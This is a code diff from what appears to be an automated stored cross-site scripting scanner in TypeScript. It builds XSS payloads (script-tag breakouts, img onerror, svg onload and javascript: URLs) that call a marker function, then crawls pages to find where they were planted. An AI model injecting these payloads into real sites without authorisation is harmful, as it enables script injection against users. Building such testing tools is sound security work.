@@ -52,10 +52,17 @@ function counter(word: string): Marks {
  */
 function payload(mark: string, maxLength: number | null, address: boolean): string {
   if (address) return `javascript:a('${mark}')`;
-  const long = `${mark}</script>'"><script id=${mark}>'${mark}'</script><img src=x onerror="a('${mark}')">`;
-  const short = `<svg onload="a('${mark}')">`;
-  return maxLength === null || maxLength >= long.length ? long : short;
+  const script = `'"></script><script id=${mark}>'${mark}'</script>`;
+  const fits = [
+    `${mark}${script}<img src=x onerror="a('${mark}')"> ${FINDABLE}`,
+    script,
+    `<svg onload="a('${mark}')">`,
+  ];
+  return fits.find(({ length }) => maxLength === null || length <= maxLength) ?? (fits[2] as string);
 }
+
+/** A word beside the markup, by which a search finds what was planted. */
+const FINDABLE = 'mpfindable';
 
 const isAddress = (name: string, type = 'text'): boolean =>
   type === 'url' || /url|website|homepage|link|site$|href/i.test(name);
@@ -156,6 +163,10 @@ async function harvest(context: AttackContext, planted: Planted, prefix: string)
     const wanted = ({ path }: { path: string }): boolean => !/^\/(admin|media|static)\//.test(path);
     for (const { visit } of await crawl(browser, { starts, most: MOST_PAGES, each: 6, wanted }))
       found.push(...(await read(context, visit, planted, prefix)));
+    for (const parameter of context.surface.parameters.filter((one) => one.as === as && !one.api))
+      found.push(
+        ...(await read(context, await browser.visit(addressWith(parameter, FINDABLE)), planted, prefix)),
+      );
   }
   return found;
 }
